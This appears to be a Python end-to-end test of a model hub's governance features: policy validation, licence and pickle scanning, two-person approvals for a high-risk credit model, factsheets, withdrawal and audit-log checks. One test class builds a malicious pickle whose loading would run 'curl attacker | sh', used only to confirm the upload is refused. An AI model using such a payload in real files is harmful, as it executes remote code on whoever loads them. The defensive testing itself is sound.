"""Governance end to end, as a bank's team lives it, with the real huggingface_hub client against a live server: the
risk office writes the organisation's policy (a malformed first draft is refused by line and column), a data
scientist's model lands while a pickle that runs code on load and a GPL card are refused; the model serves a
high-risk use case, so its promotion needs two approvers other than its author; it reaches production (the tag at
the approved revision), its factsheet tells all of this with sources (JSON and a PDF that renders), and once
withdrawn the client's downloads raise DisabledRepoError. The audit log that recorded it all still verifies."""

from __future__ import annotations

import io
import json
import os
import pickle
import uuid
from typing import Any

import httpx
import pypdfium2
import pytest
from huggingface_hub import hf_hub_download
from huggingface_hub.errors import DisabledRepoError, HfHubHTTPError

from inhouse.audit.verify import verify
from inhouse.services import orgs
from inhouse.storage.db import audit as audit_store
from inhouse.vocabulary import Role
from tests.support.live import LiveServer

POLICY = """\
licenses:
  allow: [apache-2.0, mit]
  deny: [gpl-3.0, agpl-3.0]
  denied: deny
  unknown: approval
  missing: deny
pickles:
  outcome: deny
  on_error: quarantine
secrets:
  outcome: deny
card:
  outcome: deny
  repo_types: [model]
  required:
    - name: intended use
      metadata: [intended_use]
      sections: [Intended uses, Intended use]
lifecycle:
  approver_roles: [admin]
  approvals: 1
  high_risk_approvals: 2
"""

CARD = """---
license: apache-2.0
pipeline_tag: text-classification
---
# Credit scorer

## Intended uses
Scoring retail credit applications, with a human reviewing every refusal.
"""


class RunsShell:
    """Unpickling it would run a shell command; it is only ever pickled here."""

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, ("curl attacker | sh",))


def _call(method: str, server: LiveServer, path: str, token: str, body: Any = None) -> httpx.Response:
    return httpx.request(method, server.url + path, json=body, headers={"Authorization": f"Bearer {token}"},
                         timeout=120)


def test_a_model_through_policy_approvals_production_factsheet_and_withdrawal(server: LiveServer) -> None:
    risk, reviewer, scientist = (server.make_user() for _ in range(3))
    org = f"bank{uuid.uuid4().hex[:8]}"
    orgs.create_org(server.stores, org, admin=risk)
    orgs.set_member(server.stores, org, reviewer, Role.ADMIN)
    orgs.set_member(server.stores, org, scientist, Role.WRITE)
    t_risk, t_rev, t_sci = (server.make_token(n, "write") for n in (risk, reviewer, scientist))
    api = server.api(t_sci)

    # the policy: a malformed draft is refused naming line and column; the real one becomes version 1
    bad = _call("PUT", server, f"/api/orgs/{org}/policy", t_risk,
                {"document": "pickles:\n  outcome: deny\n  on_eror: quarantine\n", "message": "draft"})
    assert bad.status_code == 400 and "line 3, column 3" in bad.json()["error"] and "on_error" in bad.json()["error"]
    assert _call("PUT", server, f"/api/orgs/{org}/policy", t_sci, {"document": POLICY}).status_code == 403
    put = _call("PUT", server, f"/api/orgs/{org}/policy", t_risk, {"document": POLICY, "message": "risk office v1"})
    assert put.status_code == 200 and put.json()["version"] == 1, put.text

    # the scientist's model lands: a card meeting the policy, safetensors weights
    repo_id = f"{org}/credit-scorer"
    api.create_repo(repo_id)
    api.upload_file(path_or_fileobj=CARD.encode(), path_in_repo="README.md", repo_id=repo_id)
    api.upload_file(path_or_fileobj=b'{"model_type": "bert"}', path_in_repo="config.json", repo_id=repo_id)
    api.upload_file(path_or_fileobj=b"\x00" * 4096, path_in_repo="model.safetensors", repo_id=repo_id)
    approved_rev = api.model_info(repo_id).sha
    assert approved_rev is not None

    # what the policy refuses never lands: a pickle that runs code on load, a GPL relicensing
    with pytest.raises(HfHubHTTPError) as refused:
        api.upload_file(path_or_fileobj=io.BytesIO(pickle.dumps(RunsShell(), protocol=4)),
                        path_in_repo="pytorch_model.bin", repo_id=repo_id)
    assert refused.value.response.status_code == 403
    assert "pickle.unsafe" in str(refused.value) and "pytorch_model.bin" in str(refused.value)
    with pytest.raises(HfHubHTTPError) as gpl:
        api.upload_file(path_or_fileobj=CARD.replace("apache-2.0", "gpl-3.0").encode(), path_in_repo="README.md",
                        repo_id=repo_id)
    assert gpl.value.response.status_code == 403 and "license.denied" in str(gpl.value)
    assert sorted(api.list_repo_files(repo_id)) == [".gitattributes", "README.md", "config.json",
                                                    "model.safetensors"]
    assert api.model_info(repo_id).sha == approved_rev

    # the model serves a high-risk use case: each promotion needs two approvers, never its author
    uc = _call("POST", server, f"/api/orgs/{org}/use-cases", t_risk,
               {"title": "Retail credit scoring", "riskTier": "high", "purpose": "Decide on credit applications"})
    assert uc.status_code == 201, uc.text
    slug = uc.json()["slug"]
    assert _call("POST", server, f"/api/orgs/{org}/use-cases/{slug}/models", t_risk,
                 {"repo": repo_id}).status_code in (200, 201)

    base = f"/api/models/{repo_id}"

    def promote(stage: str, **extra: Any) -> int:
        r = _call("POST", server, base + "/promotions", t_sci, {"stage": stage, "reason": f"ready for {stage}",
                                                                **extra})
        assert r.status_code == 201, r.text
        return int(r.json()["number"])

    def approve(number: int, token: str) -> httpx.Response:
        return _call("POST", server, f"{base}/approvals/{number}/approve", token, {"reason": "reviewed"})

    for stage in ("validated", "approved", "production"):
        number = promote(stage)
        own = approve(number, t_sci)
        assert own.status_code == 403 and "two-person rule" in own.json()["error"]
        assert approve(number, t_rev).status_code == 200
        lifecycle = _call("GET", server, base + "/lifecycle", t_sci).json()
        assert lifecycle["stage"] != stage  # one approval of two: not yet
        assert approve(number, t_risk).status_code == 200
        assert _call("GET", server, base + "/lifecycle", t_sci).json()["stage"] == stage

    tags = {t.name: t.target_commit for t in api.list_repo_refs(repo_id).tags}
    assert tags["production"] == approved_rev
    with pytest.raises(HfHubHTTPError):
        api.delete_tag(repo_id, tag="production")

    # the factsheet tells it, every fact with its source
    sheet = _call("GET", server, base + "/factsheet", t_rev)
    assert sheet.status_code == 200, sheet.text
    facts = sheet.json()["facts"]
    assert facts and all(f["source"] for f in facts)
    text = json.dumps(facts)
    for expected in (scientist, reviewer, risk, "Retail credit scoring", "production", "apache-2.0"):
        assert expected in text, expected
    assert any(item["missing"] for item in sheet.json()["annex_iv"])  # the skeleton says what nobody recorded
    pdf = _call("GET", server, base + "/factsheet?format=pdf", t_rev)
    assert pdf.status_code == 200 and pdf.headers["content-type"].startswith("application/pdf")
    document = pypdfium2.PdfDocument(pdf.content)
    image = document[0].render(scale=1).to_pil()
    assert image.size[0] > 500 and image.convert("L").getextrema()[0] < 128  # something is drawn on page 1
    pdf_text = "".join(document[i].get_textpage().get_text_range() for i in range(len(document)))
    assert scientist in pdf_text and "Retail credit scoring" in pdf_text and "MISSING" in pdf_text

    # withdrawn: downloads raise the client's DisabledRepoError; the model info still answers
    successor = f"{org}/credit-scorer-v2"
    api.create_repo(successor)
    number = promote("withdrawn", replacement=successor)
    assert approve(number, t_rev).status_code == 200
    assert _call("GET", server, base + "/lifecycle", t_sci).json()["stage"] == "withdrawn"
    with pytest.raises(DisabledRepoError):
        hf_hub_download(repo_id, "config.json", endpoint=server.url, token=t_sci, force_download=True)
    assert api.model_info(repo_id).disabled is True
    # the record outlives the model: its factsheet and governance still answer, naming the replacement only to
    # those who may see it
    after = _call("GET", server, base + "/factsheet", t_rev)
    assert after.status_code == 200, after.text
    assert {"name": "replacement", "value": successor} in [{"name": f["name"], "value": f["value"]}
                                                            for f in after.json()["facts"]]
    assert _call("GET", server, base + "/governance", t_rev).json()["stage"] == "withdrawn"

    # every governance step is in the audit log, and the chain verifies
    with server.stores.db.read() as conn:
        actions = [e["action"] for e in audit_store.scan(conn) if e["repo"] == repo_id]
    for action in ("policy.refused", "approval.request", "approval.approve", "stage.change", "use_case.attach"):
        assert action in actions, action
    report = verify(server.stores.db, server.stores.audit)
    assert report.ok, report.problems
